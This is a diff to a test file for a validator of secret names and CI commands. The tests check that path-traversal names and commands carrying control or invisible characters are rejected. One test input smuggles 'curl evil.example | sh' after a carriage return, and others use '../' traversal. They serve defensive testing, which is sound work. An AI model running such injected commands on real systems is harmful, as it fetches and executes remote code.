@@ -100,7 +100,11 @@ describe("secret names and commands are exact", () => {
     expect(canonicalSecretName("CI/NPM_TOKEN")).toBe("CI/NPM_TOKEN");
     for (const bad of ["ci/../prod/db", "ci//x", "/ci/x", "ci/x/", "ci/ x", "ci/%2e%2e", "ci/\u0000"]) expect(() => canonicalSecretName(bad), bad).toThrow();
     expect(canonicalCommand("npm test -- --run")).toBe("npm test -- --run");
-    expect(() => canonicalCommand("npm test\ncurl evil.example | sh")).toThrow(/control/);
+    expect(canonicalCommand("cd app &&\n\tnpm test")).toBe("cd app &&\n\tnpm test");
+    expect(() => canonicalCommand("npm test\rcurl evil.example | sh")).toThrow(/control/);
+    expect(() => canonicalCommand("npm test\u0000")).toThrow(/control/);
+    expect(() => canonicalCommand("npm test \u001b[2K")).toThrow(/control/);
+    expect(() => canonicalCommand("npm test \u202E")).toThrow(/invisible/);
   });
 });
 
